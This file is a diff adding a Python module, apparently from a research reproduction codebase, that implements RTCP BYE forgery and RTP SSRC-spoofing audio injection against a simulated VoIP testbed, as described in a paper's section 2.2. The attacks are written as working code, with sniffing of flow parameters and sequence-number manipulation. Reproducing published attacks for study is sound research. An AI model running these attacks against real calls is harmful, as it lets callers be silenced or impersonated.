@@ -1,0 +1,177 @@
+"""Media-plane impersonation attacks beyond Figure 8 (paper §2.2).
+
+Two vectors the paper's background section names explicitly:
+
+* :class:`RtcpByeAttack` — "the RTP protocol ... introduces several
+  vulnerabilities due to the absence of authentication": a forged RTCP
+  BYE for the peer's SSRC makes the victim's client drop the talker
+  (continued silence) while the genuine stream keeps arriving — the
+  RTCP-side analogue of the signalling BYE attack.
+* :class:`SsrcSpoofAttack` — "An attack can also fake the SSRC field,
+  which designates the source of a stream of RTP packets, to
+  impersonate another participant in a call": the attacker learns B's
+  SSRC off the wire and injects audio under that identity, optionally
+  with plausibly-continuing sequence numbers.
+"""
+
+from __future__ import annotations
+
+import itertools
+
+from repro.attacks.base import AttackerAgent, AttackReport
+from repro.net.addr import Endpoint
+from repro.net.packet import (
+    ETHERTYPE_IPV4,
+    IPPROTO_UDP,
+    EthernetFrame,
+    IPv4Packet,
+    PacketError,
+    UdpDatagram,
+)
+from repro.rtp.codec import ToneSource
+from repro.rtp.packet import RtpError, RtpPacket
+from repro.rtp.rtcp import Bye, looks_like_rtcp
+from repro.voip.testbed import Testbed
+
+
+class _MediaSpy:
+    """Learns live RTP flow parameters (SSRC, seq, endpoints) off the hub."""
+
+    def __init__(self, testbed: Testbed) -> None:
+        self.flows: dict[tuple[Endpoint, Endpoint], dict] = {}
+        testbed.attacker_eye.subscribe(self._on_frame)
+
+    def _on_frame(self, frame: bytes, now: float) -> None:
+        try:
+            eth = EthernetFrame.decode(frame)
+            if eth.ethertype != ETHERTYPE_IPV4:
+                return
+            ip = IPv4Packet.decode(eth.payload)
+            if ip.protocol != IPPROTO_UDP or ip.is_fragment:
+                return
+            udp = UdpDatagram.decode(ip.payload, ip.src, ip.dst)
+            if looks_like_rtcp(udp.payload):
+                return  # RTCP shares the version bits; not an RTP flow
+            packet = RtpPacket.decode(udp.payload)
+        except (PacketError, RtpError):
+            return
+        key = (Endpoint(ip.src, udp.src_port), Endpoint(ip.dst, udp.dst_port))
+        self.flows[key] = {
+            "ssrc": packet.ssrc,
+            "last_seq": packet.sequence,
+            "last_ts": packet.timestamp,
+            "payload_type": packet.payload_type,
+        }
+
+    def flow_to(self, victim_ip: str) -> tuple[tuple[Endpoint, Endpoint], dict] | None:
+        """The most recently seen flow terminating at the victim."""
+        for key in reversed(list(self.flows)):
+            if str(key[1].ip) == victim_ip:
+                return key, self.flows[key]
+        return None
+
+
+class RtcpByeAttack:
+    """Forge an RTCP BYE for the peer's SSRC toward client A."""
+
+    name = "rtcp-bye-attack"
+
+    def __init__(self, testbed: Testbed) -> None:
+        self.testbed = testbed
+        self.agent = AttackerAgent(testbed.attacker_stack, testbed.loop, testbed.attacker_eye)
+        self.media_spy = _MediaSpy(testbed)
+        self.report = AttackReport(name=self.name)
+        self._socket = testbed.attacker_stack.bind_ephemeral(lambda *args: None)
+
+    def launch_at(self, when: float) -> AttackReport:
+        self.testbed.loop.call_at(when, self._fire)
+        return self.report
+
+    def launch_now(self) -> AttackReport:
+        self._fire()
+        return self.report
+
+    def _fire(self) -> None:
+        flow = self.media_spy.flow_to(str(self.testbed.stack_a.ip))
+        if flow is None:
+            self.report.details["error"] = "no media flow toward the victim observed"
+            return
+        (src, dst), info = flow
+        bye = Bye(ssrcs=(info["ssrc"],), reason="bye bye")
+        # RTCP rides the odd port above the RTP port.
+        target = Endpoint(dst.ip, dst.port + 1)
+        self._socket.send_to(target, bye.encode())
+        self.report.launched_at = self.testbed.loop.now()
+        self.report.completed = True
+        self.report.details.update(
+            {"silenced_ssrc": info["ssrc"], "victim": str(target), "talker": str(src)}
+        )
+
+
+class SsrcSpoofAttack:
+    """Inject audio under the peer's SSRC toward client A."""
+
+    name = "ssrc-spoof"
+
+    def __init__(
+        self,
+        testbed: Testbed,
+        packets: int = 30,
+        interval: float = 0.02,
+        continue_sequence: bool = True,
+    ) -> None:
+        self.testbed = testbed
+        self.packets = packets
+        self.interval = interval
+        self.continue_sequence = continue_sequence
+        self.agent = AttackerAgent(testbed.attacker_stack, testbed.loop, testbed.attacker_eye)
+        self.media_spy = _MediaSpy(testbed)
+        self.report = AttackReport(name=self.name)
+        self._socket = testbed.attacker_stack.bind_ephemeral(lambda *args: None)
+        self._tone = ToneSource(frequency=220.0)  # the impostor's "voice"
+        self._sent = 0
+        self._seq = itertools.count(0)
+        self._ts = itertools.count(0, 160)
+
+    def launch_at(self, when: float) -> AttackReport:
+        self.testbed.loop.call_at(when, self._fire)
+        return self.report
+
+    def launch_now(self) -> AttackReport:
+        self._fire()
+        return self.report
+
+    def _fire(self) -> None:
+        flow = self.media_spy.flow_to(str(self.testbed.stack_a.ip))
+        if flow is None:
+            self.report.details["error"] = "no media flow toward the victim observed"
+            return
+        (src, dst), info = flow
+        self.report.launched_at = self.testbed.loop.now()
+        self.report.details.update(
+            {"impersonated_ssrc": info["ssrc"], "victim": str(dst),
+             "genuine_source": str(src)}
+        )
+        if self.continue_sequence:
+            # Ride ahead of the genuine stream so injected packets win
+            # the playout race (the paper's "played in place of the real
+            # packets" insertion).
+            self._seq = itertools.count((info["last_seq"] + 3) & 0xFFFF)
+            self._ts = itertools.count((info["last_ts"] + 3 * 160) & 0xFFFFFFFF, 160)
+        self._inject(dst, info)
+
+    def _inject(self, victim: Endpoint, info: dict) -> None:
+        if self._sent >= self.packets:
+            self.report.completed = True
+            self.report.details["injected"] = self._sent
+            return
+        packet = RtpPacket(
+            payload_type=info["payload_type"],
+            sequence=next(self._seq) & 0xFFFF,
+            timestamp=next(self._ts) & 0xFFFFFFFF,
+            ssrc=info["ssrc"],
+            payload=self._tone.next_frame(),
+        )
+        self._socket.send_to(victim, packet.encode())
+        self._sent += 1
+        self.testbed.loop.call_later(self.interval, lambda: self._inject(victim, info))
